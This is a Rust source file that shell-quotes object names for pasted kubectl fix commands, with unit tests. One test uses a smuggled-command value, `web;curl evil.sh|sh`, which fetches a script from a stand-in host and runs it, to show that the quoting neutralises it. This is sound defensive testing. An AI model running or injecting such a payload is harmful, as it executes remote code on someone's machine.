//! Shell words for the fix commands: a line a person pastes runs `kubectl` and nothing else,
//! whatever a peer named its objects. A leaf: the fix commands and the snapshot's findings
//! both quote through it.

use std::borrow::Cow;

/// One shell word: as it is when it holds only characters no POSIX shell treats specially,
/// else single-quoted (a `'` inside as `'\''`).
pub fn sh(word: &str) -> Cow<'_, str> {
    let plain = !word.is_empty()
        && word.chars().all(|c| {
            c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.' | '/' | ':' | '=' | '@' | '%' | '+' | ',')
        });
    if plain {
        Cow::Borrowed(word)
    } else {
        Cow::Owned(format!("'{}'", word.replace('\'', "'\\''")))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn plain_words_stay_and_the_rest_is_single_quoted() {
        assert_eq!(sh("web-7f9c"), "web-7f9c");
        assert_eq!(sh("--from=cronjob/nightly"), "--from=cronjob/nightly");
        assert_eq!(sh("web;curl evil.sh|sh"), "'web;curl evil.sh|sh'");
        assert_eq!(sh("it's"), "'it'\\''s'");
        assert_eq!(sh(""), "''");
    }
}
